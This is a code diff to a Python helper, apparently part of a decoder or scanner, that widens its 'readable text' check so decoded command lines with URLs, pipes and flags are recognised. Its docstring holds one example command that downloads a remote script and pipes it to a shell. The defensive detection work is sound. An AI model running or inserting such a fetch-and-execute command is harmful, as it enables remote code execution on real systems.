@@ -77,12 +77,14 @@ class Decoded(NamedTuple):
 
 
 def _readable(text: str) -> bool:
-    """Whether decoded text reads as text: printable, mostly letters, spaces and punctuation, some letters."""
+    """Whether decoded text reads as text: printable, and mostly letters, or a command line (a URL, a pipe, flags:
+    `curl -s http://198.51.100.23/x|sh` is a third letters)."""
     if len(text) < 8:
         return False
     printable = sum(c.isprintable() or c in "\n\t\r" for c in text)
     letters = sum(c.isalpha() for c in text)
-    return printable >= 0.95 * len(text) and letters >= 0.4 * len(text)
+    commandish = letters >= 0.2 * len(text) and any(mark in text for mark in ("://", "|", "$(", "&&", ";", " -"))
+    return printable >= 0.95 * len(text) and (letters >= 0.4 * len(text) or commandish)
 
 
 def _from_base64(run: str) -> str | None:
